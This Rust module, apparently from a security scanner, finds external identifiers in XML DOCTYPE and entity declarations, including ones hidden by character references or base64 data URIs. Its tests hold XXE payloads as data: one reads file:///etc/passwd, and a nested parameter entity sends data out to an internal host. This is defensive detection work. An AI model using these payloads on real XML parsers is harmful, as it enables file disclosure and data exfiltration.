//! External identifiers of a document type: `SYSTEM "uri"` and `PUBLIC "id" "uri"`.

use sortie_model::event::Cut;

use super::collector::Collector;
use super::decode;
use super::markup::{Part, offer};
use super::spot::Spot;
use super::work;

/// Searches a document type declaration, or any text that may hold one. Declarations within entity
/// values, whose `%` is written as a character reference, are found too.
pub(super) fn search(text: &str, base: &Spot<'_>, out: &mut Collector<'_>) {
    scan(text, base, out);
    if let Some(decoded) = decode::entities(text).filter(|decoded| out.spend(decoded.len())) {
        scan(&decoded, base, out);
    }
}

fn scan(text: &str, base: &Spot<'_>, out: &mut Collector<'_>) {
    let mut part = Part::Doctype;
    // All that is of interest begins with one of three bytes.
    for at in memchr::memchr3_iter(b'<', b'S', b'P', text.as_bytes()) {
        let rest = &text[at..];
        let identifier = match rest.as_bytes()[0] {
            b'<' => {
                out.work(work::TOKEN);
                if out.has_sinks() && holds_elements(rest) {
                    out.cut(Cut::Format);
                }
                part = declaration(rest).unwrap_or(part);
                continue;
            }
            _ if rest.starts_with("SYSTEM") => literal(&rest[6..]).map(|(uri, _)| uri),
            _ if rest.starts_with("PUBLIC") => {
                literal(&rest[6..]).and_then(|(_, rest)| literal(rest)).map(|(uri, _)| uri)
            }
            _ => continue,
        };
        if let Some(uri) = identifier {
            let name = if part == Part::Doctype { "doctype" } else { "entity" };
            offer(uri, name, part, base, out);
        }
        if out.is_done() {
            return;
        }
    }
}

/// Whether an entity is declared whose text holds elements: where it is used they are part of the document,
/// and it is not expanded here.
fn holds_elements(text: &str) -> bool {
    let Some(rest) = text.strip_prefix("<!ENTITY") else { return false };
    let Some(at) = rest.find(['"', '\'', '>']) else { return false };
    literal(&rest[at..]).is_some_and(|(value, _)| {
        memchr::memchr_iter(b'<', value.as_bytes())
            .any(|at| value.as_bytes().get(at + 1).is_some_and(|b| b.is_ascii_alphabetic() || !b.is_ascii()))
    })
}

fn declaration(text: &str) -> Option<Part> {
    if text.starts_with("<!ENTITY") || text.starts_with("<!NOTATION") {
        Some(Part::Entity)
    } else {
        text.starts_with("<!DOCTYPE").then_some(Part::Doctype)
    }
}

/// The quoted literal at the beginning of `text`, after white space, and what follows it.
fn literal(text: &str) -> Option<(&str, &str)> {
    let text = text.trim_start();
    let quote = text.chars().next().filter(|c| matches!(c, '"' | '\''))?;
    text[1..].split_once(quote)
}

#[cfg(test)]
mod tests {
    use sortie_model::{Container, Key};

    use super::*;

    fn found(text: &str) -> Vec<String> {
        let key = Key::new(&[1; 32]);
        let mut out = Collector::new(&key);
        search(text, &Spot::new(Container::Xml, ""), &mut out);
        out.finish().candidates.iter().map(|c| format!("{} {}", c.parameter, c.shown)).collect()
    }

    #[test]
    fn finds_external_identifiers() {
        assert_eq!(found("<!DOCTYPE r SYSTEM 'http://a.example/x.dtd'>"), ["xml:doctype http://a.example/x.dtd"]);
        assert_eq!(found("r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]"), ["xml:entity file:///etc/passwd"]);
        assert_eq!(found("r [<!ENTITY % x PUBLIC 'p' 'http://10.0.0.5/'>]"), ["xml:entity http://10.0.0.5/"]);
        assert_eq!(
            found("r [<!ENTITY a \"<!ENTITY &#x25; b SYSTEM 'http://10.0.0.5/?%c;'>\">]"),
            ["xml:entity http://10.0.0.5/?…"]
        );
        assert_eq!(
            found("r [<!ENTITY % x SYSTEM \"data://text/plain;base64,ZmlsZTovLy9ldGMvcGFzc3dk\"> %x;]"),
            ["xml:entity file:///etc/passwd"]
        );
        assert_eq!(
            found("r [<!ENTITY a \"&#x3c;!ENTITY b SYSTEM &#x27;http://10.0.0.5/&#x27;>\">]"),
            ["xml:entity http://10.0.0.5/"]
        );
    }

    #[test]
    fn finds_none_in_other_declarations() {
        for text in ["html", "r [<!ENTITY x 'y'>]", "r SYSTEM 'x.dtd'", "SYSTEM", "PUBLIC 'a'", "PUBLIC 'a", ""] {
            assert_eq!(found(text), [""; 0], "{text}");
        }
    }
}
